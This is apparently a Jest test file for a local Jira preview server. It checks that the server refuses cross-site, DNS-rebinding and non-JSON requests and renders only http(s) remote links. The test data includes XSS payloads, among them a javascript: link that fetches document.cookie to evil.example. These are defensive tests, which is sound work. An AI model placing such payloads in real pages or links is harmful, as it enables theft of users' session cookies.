/**
 * The local preview acts on Jira as the developer (a real site when JIRA_SITE is set), so a web
 * page on another site must not be able to drive it: requests with a foreign Origin, a foreign
 * Host (DNS rebinding) or a body that is not JSON are refused before anything is read or written,
 * with a message that says why. And a remote link that is not http(s) is never a link.
 */
import fs from 'node:fs';
import http from 'node:http';
import os from 'node:os';
import path from 'node:path';
import { DEMO_NOW, DEMO_USERS, buildDemoSite } from '../../src/demo/site';
import { startEmulator } from '../../src/emulator/server';
import { emulatorTransport } from '../../src/emulator/acting-as';
import { createJiraClient } from '../../src/jira/client';
import { issueViewPage, remoteLinkHtml } from '../../src/preview/issue-view';
import { refusal } from '../../src/preview/server';
import { startPreview, type PreviewServer } from '../../src/preview/server';
import { httpUrl, siteBase } from '../../src/shared/safe-url';

jest.setTimeout(60_000);

interface Answer {
  status: number;
  body: string;
}

/** One raw HTTP request: unlike fetch, it may name any Host. */
function raw(url: string, options: { method?: string; headers?: Record<string, string>; body?: string }): Promise<Answer> {
  const u = new URL(url);
  return new Promise((resolve, reject) => {
    const req = http.request(
      { host: u.hostname, port: u.port, path: `${u.pathname}${u.search}`, method: options.method ?? 'GET', headers: { Host: u.host, ...options.headers }, agent: false },
      (res) => {
        let body = '';
        res.setEncoding('utf8');
        res.on('data', (d: string) => (body += d));
        res.on('end', () => resolve({ status: res.statusCode ?? 0, body }));
      },
    );
    req.on('error', reject);
    if (options.body !== undefined) req.write(options.body);
    req.end();
  });
}

describe('the preview refuses cross-site requests', () => {
  let preview: PreviewServer;
  let stateDir: string;
  let own: string;
  const gadgets = () => path.join(stateDir, 'gadgets.json');
  const storeFile = () => path.join(stateDir, 'store.json');
  const snapshot = () => [gadgets(), storeFile()].map((f) => (fs.existsSync(f) ? fs.readFileSync(f, 'utf8') : null));
  const submit = JSON.stringify({ frame: 'backlog-convergence:1:edit', payload: { boardIds: [1, 2], sprints: 3 } });
  const saveSettings = JSON.stringify({ frame: 'governance-settings:admin:view', functionKey: 'settings/save', payload: { config: {}, expectedVersion: 1 } });

  beforeAll(async () => {
    stateDir = fs.mkdtempSync(path.join(os.tmpdir(), 'preview-security-'));
    preview = await startPreview({ port: 0, stateDir, env: {} });
    own = preview.url;
  });
  afterAll(async () => {
    await preview.close();
    fs.rmSync(stateDir, { recursive: true, force: true });
  });

  it('accepts its own pages: a JSON submit from its own origin is saved', async () => {
    const r = await raw(`${own}/__preview/submit`, { method: 'POST', headers: { 'Content-Type': 'application/json', Origin: own }, body: submit });
    expect(r.status).toBe(200);
    expect(JSON.parse(fs.readFileSync(gadgets(), 'utf8'))).toEqual({ 1: { boardIds: [1, 2], sprints: 3 } });
    // localhost is the same preview.
    const port = new URL(own).port;
    const local = await raw(`${own}/__preview/health`, { headers: { Host: `localhost:${port}` } });
    expect(local.status).toBe(200);
  });

  it('refuses a request from a foreign Origin with 403, saying why, and changes nothing', async () => {
    const before = snapshot();
    for (const [url, body] of [[`${own}/__preview/submit`, submit], [`${own}/__preview/invoke`, saveSettings]] as const) {
      const r = await raw(url, { method: 'POST', headers: { 'Content-Type': 'application/json', Origin: 'https://evil.example' }, body });
      expect(r.status).toBe(403);
      expect(r.body).toMatch(/accepts changes only from its own pages .*"https:\/\/evil\.example" was refused/);
    }
    // Another port of this machine is another origin too.
    const other = await raw(`${own}/__preview/submit`, { method: 'POST', headers: { 'Content-Type': 'application/json', Origin: 'http://127.0.0.1:1' }, body: submit });
    expect(other.status).toBe(403);
    expect(snapshot()).toEqual(before);
  });

  it('refuses a cross-site request that hides its Origin', async () => {
    const before = snapshot();
    const r = await raw(`${own}/__preview/submit`, { method: 'POST', headers: { 'Content-Type': 'application/json', 'Sec-Fetch-Site': 'cross-site' }, body: submit });
    expect(r.status).toBe(403);
    expect(snapshot()).toEqual(before);
  });

  it('refuses a foreign Host (DNS rebinding) with 403 on every page, reads and writes alike', async () => {
    const before = snapshot();
    const port = new URL(own).port;
    for (const host of [`evil.example:${port}`, 'evil.example', `127.0.0.1.evil.example:${port}`]) {
      const write = await raw(`${own}/__preview/submit`, { method: 'POST', headers: { Host: host, 'Content-Type': 'application/json', Origin: `http://${host}` }, body: submit });
      expect(write.status).toBe(403);
      expect(write.body).toContain(`named the host "${host}"`);
      const read = await raw(`${own}/issues`, { headers: { Host: host } });
      expect(read.status).toBe(403);
      expect(read.body).not.toMatch(/PAY-\d+/);
    }
    expect(snapshot()).toEqual(before);
  });

  it('refuses a body that is not JSON (text/plain, a form) with 415, and changes nothing', async () => {
    const before = snapshot();
    for (const type of ['text/plain', 'text/plain;charset=UTF-8', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x']) {
      const r = await raw(`${own}/__preview/submit`, { method: 'POST', headers: { 'Content-Type': type, Origin: own }, body: submit });
      expect(r.status).toBe(415);
      expect(r.body).toMatch(/accepts only JSON bodies/);
    }
    const none = await raw(`${own}/__preview/invoke`, { method: 'POST', headers: { Origin: own }, body: saveSettings });
    expect(none.status).toBe(415);
    expect(snapshot()).toEqual(before);
  });

  it('does not let another site switch the user, language or theme', async () => {
    const r = await raw(`${own}/__preview/prefs?user=${DEMO_USERS.paymentsContractor}&back=/dashboard`, { headers: { 'Sec-Fetch-Site': 'cross-site' } });
    expect(r.status).toBe(403);
    const mine = await raw(`${own}/__preview/prefs?locale=ru-RU&back=/dashboard`, { headers: { 'Sec-Fetch-Site': 'same-origin' } });
    expect(mine.status).toBe(302);
  });
});

describe('refusal', () => {
  const req = (method: string, headers: http.IncomingHttpHeaders, url = '/__preview/invoke') => ({ method, url, headers });
  it('lets a command-line client (no Origin, no Sec-Fetch-Site) post JSON', () => {
    expect(refusal(req('POST', { host: '127.0.0.1:3000', 'content-type': 'application/json; charset=utf-8' }), 3000)).toBeNull();
  });
  it('refuses other methods that change state the same way as POST', () => {
    expect(refusal(req('PUT', { host: '127.0.0.1:3000', origin: 'https://evil.example', 'content-type': 'application/json' }), 3000)?.status).toBe(403);
    expect(refusal(req('DELETE', { host: '127.0.0.1:3000', origin: 'http://127.0.0.1:3000' }), 3000)?.status).toBe(415);
  });
  it('needs a Host at all', () => {
    expect(refusal(req('GET', {}), 3000)?.status).toBe(403);
  });
  it('takes the edit screen’s HTML form only from the preview’s own page', () => {
    const edit = '/secure/EditIssue!default.jspa?id=10001';
    const form = 'application/x-www-form-urlencoded';
    expect(refusal(req('POST', { host: '127.0.0.1:3000', origin: 'http://127.0.0.1:3000', 'content-type': form }, edit), 3000)).toBeNull();
    expect(refusal(req('POST', { host: '127.0.0.1:3000', origin: 'https://evil.example', 'content-type': form }, edit), 3000)?.status).toBe(403);
    // Without an Origin (a hidden one, or a script): not a page of the preview, so no form.
    expect(refusal(req('POST', { host: '127.0.0.1:3000', 'content-type': form }, edit), 3000)?.status).toBe(415);
    // Forms anywhere else stay refused.
    expect(refusal(req('POST', { host: '127.0.0.1:3000', origin: 'http://127.0.0.1:3000', 'content-type': form }), 3000)?.status).toBe(415);
  });
});

describe('links from Jira data', () => {
  it('are http(s) only', () => {
    expect(httpUrl('https://www.figma.com/file/1')).toBe('https://www.figma.com/file/1');
    expect(httpUrl('http://example.com')).toBe('http://example.com/');
    for (const bad of ['javascript:alert(1)', ' javascript:alert(1)', 'JAVASCRIPT:alert(1)', 'data:text/html,<script>alert(1)</script>', 'vbscript:x', '/relative', '', null, undefined])
      expect(httpUrl(bad)).toBeNull();
    expect(siteBase('https://bank.atlassian.net/')).toBe('https://bank.atlassian.net');
    expect(siteBase('javascript:alert(1)//')).toBe('');
    expect(siteBase(null)).toBe('');
  });

  it('renders a javascript: remote link as plain text, and an https one as a link', () => {
    expect(remoteLinkHtml({ url: 'javascript:alert(document.cookie)', title: 'Design' })).toBe(
      '<span data-testid="remote-link-unsafe">Design (javascript:alert(document.cookie))</span>',
    );
    expect(remoteLinkHtml({ url: 'https://figma.com/f/1', title: 'Figma <b>' })).toBe(
      '<a href="https://figma.com/f/1" rel="noopener noreferrer" target="_blank" data-testid="remote-link">Figma &lt;b&gt;</a>',
    );
  });

  it('shows the issue view of an issue with a javascript: remote link without any link to it', async () => {
    const site = buildDemoSite();
    const target = site.issues.find((i) => i.key === 'PAY-1');
    if (!target) throw new Error('no PAY-1 in the demo site');
    target.remoteLinks = [
      { id: 901, object: { url: 'javascript:fetch("https://evil.example/?c="+document.cookie)', title: 'Mock-ups' } },
      { id: 902, object: { url: 'https://www.figma.com/file/abc', title: 'Figma' } },
    ];
    const emulator = await startEmulator(site, { now: () => Date.parse(DEMO_NOW) });
    try {
      const client = createJiraClient(emulatorTransport(emulator.url, DEMO_USERS.admin));
      const page = await issueViewPage({ user: DEMO_USERS.admin, locale: 'en-US', theme: 'light' }, [], site.name, client, 'PAY-1', '/browse/PAY-1');
      expect(page.status).toBe(200);
      expect(page.html).not.toMatch(/href="\s*javascript:/i);
      expect(page.html).toContain('<span data-testid="remote-link-unsafe">Mock-ups (javascript:fetch(&quot;https://evil.example/?c=&quot;+document.cookie))</span>');
      expect(page.html).toContain('<a href="https://www.figma.com/file/abc" rel="noopener noreferrer" target="_blank" data-testid="remote-link">Figma</a>');
    } finally {
      await emulator.close();
    }
  });
});
